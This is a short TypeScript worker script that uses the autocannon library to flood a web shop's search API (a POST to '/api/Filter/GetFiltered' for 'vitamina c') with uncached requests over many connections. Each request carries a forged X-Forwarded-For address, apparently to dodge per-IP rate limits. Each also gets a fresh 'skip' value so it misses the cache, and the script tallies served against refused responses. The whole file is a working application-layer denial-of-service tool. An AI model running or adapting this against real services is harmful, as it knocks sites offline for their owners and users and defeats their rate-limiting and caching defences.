import { parentPort, workerData } from 'node:worker_threads';
import autocannon from 'autocannon';

export type FloodOptions = { origin: string; connections: number; seconds: number };
export type FloodResult = { served: number; refused: number };

/** A thread that sends uncached searches over all connections without a pause, and posts how they were answered. */
async function flood({ origin, connections, seconds }: FloodOptions): Promise<FloodResult> {
  let serial = 0;
  const result = await autocannon({
    url: origin,
    connections,
    duration: seconds,
    timeout: 60,
    requests: [
      {
        method: 'POST',
        path: '/api/Filter/GetFiltered?take=48&skip=0',
        headers: { 'content-type': 'application/json' },
        setupRequest: (request: autocannon.Request) => ({
          ...request,
          headers: { ...request.headers, 'x-forwarded-for': `10.${(serial >> 8) & 255}.${serial & 255}.1` },
          // Another `skip` is another cache key for the same work, because the query overrides it.
          body: JSON.stringify({ searchKeyword: 'vitamina c', skip: serial++ }),
        }),
      },
    ],
  });
  return { served: result['2xx'], refused: result['5xx'] };
}

parentPort?.postMessage(await flood(workerData));
